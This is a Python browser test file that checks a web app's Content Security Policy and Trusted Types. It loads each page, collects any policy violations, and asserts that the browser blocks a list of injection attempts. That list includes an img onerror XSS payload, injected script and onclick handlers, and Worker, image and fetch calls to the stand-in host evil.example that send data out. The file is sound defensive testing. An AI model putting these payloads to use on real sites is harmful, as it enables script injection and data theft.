"""No page asks the browser for what its policy refuses, and the browser refuses what it should."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

import pytest

from browser.test_pages import PAGES
from support import Centre, until

pytestmark = pytest.mark.browser

WATCH = """
window.violations = [];
document.addEventListener("securitypolicyviolation", event =>
    window.violations.push([event.effectiveDirective, event.blockedURI, event.sample].join(" ")));
"""
#: What the console says of the policies; missing pages and refused log-ins are said there too, and are meant.
WORDS = ("policy", "policies", "trusted", "refused to", "blocked", "mixed content", "cors", "insecure")


def test_no_page_meets_its_own_policy(page_as: Callable[..., Any], centre: Centre) -> None:
    faults: list[str] = []
    for username in sorted(set(PAGES.values())):
        page = page_as(username)
        page.add_init_script(WATCH)
        said: list[str] = []
        page.on("console", lambda message, said=said: said.append(message.text))
        page.on("pageerror", lambda error, said=said: said.append(f"policy? {error}"))
        for path in (path for path, who in PAGES.items() if who == username):
            page.goto(centre.url + path)
            page.wait_for_load_state("load")
            if path == "/wall/":
                page.wait_for_selector("canvas.maplibregl-canvas")
                page.wait_for_timeout(1500)  # the map's worker has begun by then, or failed
            faults += [f"{path}: {each}" for each in page.evaluate("violations")]
            faults += [f"{path}: {text}" for text in said if any(word in text.lower() for word in WORDS)]
            said.clear()
    assert not faults, "\n".join(faults)


@pytest.mark.parametrize(
    ("attempt", "directive"),
    [
        ("document.body.append(Object.assign(document.createElement('script'), {textContent: 'window.hacked = 1'}))",
         "require-trusted-types-for"),
        ("document.body.innerHTML = '<img src=x onerror=hacked=1>'", "require-trusted-types-for"),
        ("new Worker('https://evil.example/w.js')", "require-trusted-types-for"),
        ("new Worker('/files/00000000-0000-0000-0000-000000000000/')", "require-trusted-types-for"),
        ("trustedTypes.createPolicy('another', {createHTML: text => text})", "trusted-types"),
        ("document.body.append(Object.assign(new Image(), {src: 'https://evil.example/x.png'}))", "img-src"),
        ("fetch('https://evil.example/?data=1').catch(() => 0)", "connect-src"),
        ("document.body.setAttribute('style', 'color: red')", "style-src-attr"),
        ("document.body.append(Object.assign(document.createElement('iframe'), {src: '/'}))", "frame-src"),
        ("document.body.setAttribute('onclick', 'hacked = 1'), document.body.click()", "require-trusted-types-for"),
    ],
)  # fmt: skip
def test_the_browser_refuses_what_would_act(
    page_as: Callable[..., Any], centre: Centre, attempt: str, directive: str
) -> None:
    page = page_as("")
    page.add_init_script(WATCH)
    page.goto(f"{centre.url}/login/")
    page.evaluate(
        f"async () => {{ try {{ await ({attempt}) }} catch (error) {{ window.refused = `${{error}}` }} }}"
    )
    refused = until(lambda: page.evaluate("violations"), what=f"a refusal of {attempt}")
    assert directive in {each.split(" ")[0] for each in refused}
    assert not page.evaluate("window.hacked")
